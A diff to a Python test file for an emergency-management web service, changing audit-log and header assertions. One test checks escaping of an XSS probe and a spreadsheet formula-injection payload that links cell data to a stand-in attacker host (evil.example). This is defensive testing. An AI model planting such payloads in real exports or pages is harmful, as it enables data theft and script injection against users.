@@ -8,7 +8,7 @@ import urllib.request
 import pytest
 
 from serving.audit import AuditLog
-from serving.web import CallerSource
+from serving.identity import CallerSource
 from tests.emergency.helpers import MUNI, serving
 
 MANAGER = CallerSource(role="emergency_manager", user="dana")
@@ -26,9 +26,9 @@ def fetch(url, data=None, headers=None):
     req = urllib.request.Request(url, data=body, headers=headers or {})
     try:
         with urllib.request.urlopen(req, timeout=30) as resp:
-            return resp.status, dict(resp.headers), resp.read()
+            return resp.status, resp.headers, resp.read()
     except urllib.error.HTTPError as e:
-        return e.code, dict(e.headers), e.read()
+        return e.code, e.headers, e.read()
 
 
 def test_page_is_hebrew_rtl_with_strict_headers(home):
@@ -56,8 +56,9 @@ def test_role_from_proxy_headers(fresh_home):
     assert status == 200
     assert picker_options(body.decode()) == ["alone_without_support", "yachad_not_located", "household"]
     assert denied == 403
-    [entry] = AuditLog.of(MUNI, fresh_home).entries()
-    assert (entry.subject, entry.role, entry.channel, entry.outcome) == ("yossi", "welfare", "web", "denied")
+    denial, anonymous_entry = AuditLog.of(MUNI, fresh_home).entries()
+    assert (denial.subject, denial.role, denial.channel, denial.outcome) == ("yossi", "welfare", "web", "denied")
+    assert (anonymous_entry.outcome, anonymous_entry.peer) == ("unauthenticated", "127.0.0.1")
 
 
 def test_typed_text_and_stored_names_are_escaped(home):
@@ -67,7 +68,7 @@ def test_typed_text_and_stored_names_are_escaped(home):
     page = body.decode()
     assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
     listing = listing.decode()
-    assert '=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;לחץ&quot;)' in listing
+    assert '=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;לחץ&#34;)' in listing
     assert 'HYPERLINK("' not in listing
 
 
@@ -86,8 +87,9 @@ def test_export_downloads(fresh_home):
     assert headers["Content-Disposition"].startswith('attachment; filename="yachad_not_located_6600_')
     assert body.startswith(b"\xef\xbb\xbf") and body.decode("utf-8-sig").count("\r\n") == 3
     assert bad == 400
-    [entry] = AuditLog.of(MUNI, fresh_home).entries()
+    refused, entry = AuditLog.of(MUNI, fresh_home).entries()
     assert (entry.query, entry.row_count, entry.exports, entry.channel) == ("yachad_not_located", 2, "csv", "web")
+    assert (refused.outcome, refused.reason, refused.peer) == ("invalid", "export_format", "127.0.0.1")
 
 
 @pytest.mark.parametrize("kwargs", [dict(), dict(role="emergency_manager"), dict(user="dana"),
